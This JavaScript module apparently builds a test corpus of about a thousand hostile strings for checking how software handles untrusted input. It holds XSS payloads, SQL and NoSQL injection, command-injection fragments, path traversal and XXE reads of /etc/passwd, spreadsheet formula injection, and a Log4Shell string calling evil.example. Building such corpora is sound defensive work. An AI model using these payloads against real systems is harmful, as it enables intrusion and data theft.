// A thousand hostile texts: patterns × small parts, made here. What they would do, if anything ran
// them, is to call `alert` or to set `window.owned`.
const CALL = ['alert(1)', 'window.owned=1', "top['al'+'ert'](1)", 'import("data:text/javascript,owned=1")', '(()=>{owned=1})()'];
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbegin', 'onscroll'];
const TAGS = ['img', 'svg', 'body', 'iframe', 'video', 'audio', 'input autofocus', 'details open', 'marquee', 'object', 'embed', 'math', 'form', 'style', 'link', 'meta', 'base', 'template', 'custom-el', 'select'];
const BREAKS = ['', '">', "'>", '`>', '--!>', ']]>', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '\\">', '&quot;&gt;', '\u0000">'];

function* markup() {
  for (const b of BREAKS) for (const c of CALL) yield `${b}<script>${c}</script>`;
  for (const t of TAGS) for (const e of EVENTS) yield `<${t} src=x ${e}=${CALL[0]}>`;
  for (const b of BREAKS) for (const e of EVENTS.slice(0, 5)) yield `${b}<svg ${e}="${CALL[1]}">`;
  for (const c of CALL) {
    yield `<svg><animate ${EVENTS[8]}=${c} attributeName=x dur=1s>`;
    yield `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${c}&gt;">`;
    yield `<template><script>${c}</script></template>`;
    yield `<svg><style><img src=x onerror=${c}></style></svg>`;
    yield `<noscript><p title="</noscript><img src=x onerror=${c}>">`;
    yield `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`;
    yield `<a href="javascript:${c}">x</a>`;
    yield `<form action="javascript:${c}"><button>x</button></form>`;
    yield `<object data="data:text/html,<script>${c}</script>">`;
    yield `<meta http-equiv=refresh content="0;url=javascript:${c}">`;
    yield `<base href="javascript:${c}//">`;
    yield `<style>*{background:url("javascript:${c}")}</style>`;
    yield `<link rel=stylesheet href="data:text/css,*{display:none}">`;
  }
}

function* addresses() {
  const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', '\u0001javascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'blob:', 'file:///etc/passwd#', '//evil.example/', '\\\\evil.example\\', 'https:evil.example', 'http://evil.example@127.0.0.1/', 'view-source:javascript:'];
  for (const s of schemes) for (const c of CALL) yield s.includes('base64') ? s + Buffer.from(`<script>${c}</script>`).toString('base64') : s + c;
  for (const s of schemes) yield `[x](${s}${CALL[0]})`;
  for (const s of schemes) yield `![x](${s}"${EVENTS[0]}="${CALL[0]})`;
}

function* templates() {
  const braces = [['{{', '}}'], ['${', '}'], ['#{', '}'], ['{@html ', '}'], ['{#if ', '}'], ['<%=', '%>'], ['{%', '%}'], ['[[', ']]'], ['{{{', '}}}'], ['@{', '}']];
  const inside = ['constructor.constructor("owned=1")()', '$eval.constructor("alert(1)")()', '7*7', '__proto__.polluted=1', 'this.constructor.prototype', 'n', 'name', '$&', "$'", '$`'];
  for (const [a, z] of braces) for (const i of inside) yield a + i + z;
  for (const k of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'then', 'toJSON', 'length', 'null', 'undefined', 'NaN', 'Infinity', '-0', '[object Object]']) yield k;
  for (const v of ['{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '[1,2', '{"$ne":null}', '{"$where":"sleep(1)"}', '{"a":{"$gt":""}}']) yield v;
}

function* letters() {
  const bidi = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'];
  for (const b of bidi) for (const t of ['admin', 'gpj.exe', 'Hải Châu', '<b>x</b>']) yield `${b}${t}`;
  for (const z of ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u034f', '\u3164', '\u115f']) for (const t of ['admin', 'operator', '']) yield t.split('').join(z) || z.repeat(20);
  for (let i = 1; i < 32; i++) yield `a${String.fromCharCode(i)}b`;
  for (let i = 0x7f; i < 0xa0; i++) yield `a${String.fromCharCode(i)}b`;
  for (const n of [5, 50, 400]) yield 'Z' + '\u0300\u0315\u0489\u0334'.repeat(n);
  for (const t of ['W', 'ộ', '漢', '👨‍👩‍👧‍👦', '🇻🇳', '\u{1F3F4}\u{E0067}\u{E0062}', '﷽', '𒐫', '\ud800', '\udfff', '\ufffe', '\uffff', 'ﬃ', 'İ', 'ß', 'Dz']) for (const n of [1, 7, 60, 300]) yield t.repeat(n);
  for (const n of [1000, 5000]) for (const t of ['A', 'A ', '\n', '\t', '<', '&', '"', '\\', '%00']) yield t.repeat(n);
}

function* other() {
  const formula = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ';=', '",=', '＝'];
  for (const f of formula) for (const b of ['cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example","x")', 'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")', '1+1', 'DDE("cmd";"/C calc";"x")']) yield f + b;
  for (const q of ["'", '"', '`', "')", '")', "';", '\\\'']) for (const s of [' OR 1=1--', '; DROP TABLE users--', ' UNION SELECT password FROM users--', ' AND sleep(5)--', '||(SELECT 1)||', '/**/']) yield q + s;
  for (const s of ['m,t=1 v=1 1\nm,t=2 v=2', 'a,b c\\ d=1', '# HELP x\nx{a="b"} 1', 'x="\n"', '\r\nSet-Cookie: a=b', '%0d%0aLocation: //evil.example', '\u001b[2J\u001b[31mroot', '\u001b]0;x\u0007', '2026-01-01 INFO signed in user=admin\n', 'ioc/v1/#', 'ioc/v1/+/x', '$SYS/broker', '${jndi:ldap://evil.example/a}', '$(id)', '`id`', '; id', '| id', '&& id', '%n%s%x%p']) yield s;
  for (const d of ['../', '..\\', '%2e%2e/', '....//', '..%c0%af', '/./', '\\\\?\\']) for (const f of ['etc/passwd', 'windows/win.ini', 'index.html', 'api/v1/session', '\u0000.png']) yield d.repeat(4) + f;
  for (const s of ['&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;', '&lt;img src=x onerror=alert(1)&gt;', '\\u003cscript\\u003ealert(1)', '%3Cscript%3Ealert(1)%3C/script%3E', '+ADw-script+AD4-alert(1)', '<<script>script>alert(1)', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '＜script＞alert(1)＜/script＞', '<ScRiPt>alert(1)</sCrIpT>', '<script/x>alert(1)</script>', '<script\n>alert(1)</script\n>', '<!--><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>']) yield s;
  for (const s of ['expression(alert(1))', 'url(javascript:alert(1))', '};alert(1);//', "';alert(1);//", '*/alert(1)/*', ':root{--x:1}', 'red;background:url(//evil.example)', '@import "//evil.example/x.css";', '}</style><script>alert(1)</script>']) yield s;
  // A polyglot for many contexts at once.
  yield 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e';
}

/** All of them, each once. */
export const HOSTILE = [...new Set([...markup(), ...addresses(), ...templates(), ...letters(), ...other()])];
